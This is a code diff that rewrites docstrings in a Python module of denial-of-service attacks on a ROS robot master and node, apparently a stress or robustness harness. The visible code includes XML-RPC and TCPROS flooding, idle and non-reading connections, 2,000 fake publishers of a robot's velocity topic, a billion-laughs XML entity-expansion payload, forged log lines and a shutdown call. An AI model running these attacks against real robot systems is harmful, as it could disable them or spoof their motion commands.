@@ -19,7 +19,7 @@ NAMED = "http://127.0.0.1:1/"
 
 
 def ask(uri: str, method: str, *args: object, timeout: float = 60.0) -> object:
-    """A call of somebody who is honest."""
+    """An XML-RPC call of an honest node."""
     where = urlsplit(uri)
     connection = http.client.HTTPConnection(str(where.hostname), where.port or 0, timeout=timeout)
     try:
@@ -53,7 +53,7 @@ def _connect(uri_or_port: str | int) -> socket.socket:
 
 
 def _again(until: float, act: Callable[[], None]) -> None:
-    """The same again and again, whatever comes of it."""
+    """Repeat an action until the end; errors of sockets are ignored."""
     while time.monotonic() < until:
         with contextlib.suppress(OSError):
             act()
@@ -62,7 +62,7 @@ def _again(until: float, act: Callable[[], None]) -> None:
 
 
 def _all_of_it(target: str, data: bytes, until: float) -> None:
-    """Send one thing again and again, each time by a new connection, and read what comes."""
+    """Send the same bytes repeatedly, each time by a new connection, and read the answer."""
 
     def act() -> None:
         with _connect(target) as s:
@@ -80,7 +80,7 @@ def _large_calls(master: str, _node: str, _tcp: int, until: float) -> None:
 
 
 def _values(master: str, _node: str, _tcp: int, until: float) -> None:
-    """As many values as are taken, set and got."""
+    """Set and get as many parameters as are accepted."""
     _all_of_it(master, _call("setParam", "/x", "/many", [1] * 15_000) + _call("getParam", "/x", "/many"), until)
 
 
@@ -92,7 +92,7 @@ def _nested(master: str, _node: str, _tcp: int, until: float) -> None:
 
 
 def _small_calls(_master: str, node: str, _tcp: int, until: float) -> None:
-    """Small calls, as many as go."""
+    """Small calls, as fast as possible."""
     data = _call("getBusInfo", "/x") * 200
 
     def act() -> None:
@@ -123,7 +123,7 @@ def _half_calls(master: str, _node: str, _tcp: int, until: float) -> None:
 
 
 def _headers(_master: str, _node: str, tcp: int, until: float) -> None:
-    """Headers and requests that announce 100 MB, with as much as is taken."""
+    """Headers and requests that announce 100 MB, with as many bytes as are accepted."""
     greeting = wire.encode_header({"service": "/r0/enable_motors", "md5sum": "*", "persistent": "1"})
 
     def act(first: bytes) -> None:
@@ -141,7 +141,7 @@ def _headers(_master: str, _node: str, tcp: int, until: float) -> None:
 
 
 def _idle(_master: str, _node: str, tcp: int, until: float) -> None:
-    """Connections that say nothing."""
+    """Idle connections."""
     held: list[socket.socket] = []
     while time.monotonic() < until:
         with contextlib.suppress(OSError):
@@ -152,7 +152,7 @@ def _idle(_master: str, _node: str, tcp: int, until: float) -> None:
 
 
 def _map_readers(_master: str, _node: str, tcp: int, until: float) -> None:
-    """Subscribers of the map and of the odometry that never read, as many as may be there."""
+    """Subscribers of the map and of the odometry that never read, as many as are admitted."""
     held = []
     for topic in ("/map", "/r0/odom") * 1000:
         with contextlib.suppress(OSError):
@@ -186,7 +186,7 @@ def _updates(_master: str, node: str, _tcp: int, until: float) -> None:
 
 
 def _publishers(master: str, _node: str, _tcp: int, until: float) -> None:
-    """Two thousand publishers of a robot's velocity, whose addresses nobody has."""
+    """Two thousand publishers of a robot's velocity at addresses that do not exist."""
     calls = [
         _call("registerPublisher", f"/x{i}", "/r0/cmd_vel", "geometry_msgs/Twist", f"http://127.0.0.1:1/{i}")
         for i in range(2000)
@@ -205,7 +205,7 @@ def _publishers(master: str, _node: str, _tcp: int, until: float) -> None:
 
 
 def _poison(master: str, node: str, _tcp: int, until: float) -> None:
-    """Addresses that are none, names that forge lines, entities that expand, shutdown."""
+    """Malformed addresses, names that forge log lines, XML entities that expand, shutdown."""
     evil = "/x"
     laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "' + b"a" * 1000 + b'"><!ENTITY b "' + b"&a;" * 1000 + b'">'
     laughs += b"]><methodCall><methodName>&b;</methodName></methodCall>"
@@ -232,11 +232,11 @@ ATTACKS: dict[str, tuple[str, int, Callable[[str, str, int, float], None]]] = {
     "publishers": ("2,000 publishers with addresses that nobody has", 2, _publishers),
     "poison": ("addresses that are none, entities, forged names, shutdown", 2, _poison),
 }
-"""What it is, in how many threads, and how it is done: master's address, node's address, its TCPROS port, until when."""
+"""Description, number of threads, and function of each attack: of the master's address, the node's, its TCPROS port, and the end time."""
 
 
 def attack(kind: str, master: str, seconds: float) -> None:
-    """Carry one out, as a process."""
+    """Run an attack; called in a process of its own."""
     node, tcp = node_of(master)
     _, count, act = ATTACKS[kind]
     until = time.monotonic() + seconds
